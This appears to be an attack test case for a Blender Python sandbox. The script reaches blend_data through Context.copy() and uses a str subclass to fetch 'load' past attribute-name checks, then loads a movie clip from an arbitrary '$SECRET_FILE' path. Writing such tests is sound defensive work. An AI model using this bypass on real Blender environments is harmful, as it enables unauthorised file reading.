# attack: a movie clip of any path: blend_data out of Context.copy(), .load asked for with a str that is not exactly str
# family: files
import bpy


class Word(str):
    pass


everything = bpy.context.copy()
clips = everything["blend_data"].movieclips
read = getattr(clips, Word("load"))
print("REACHED", read)
clip = read("$SECRET_FILE")
print(clip, clip.path_resolve("filepath"))
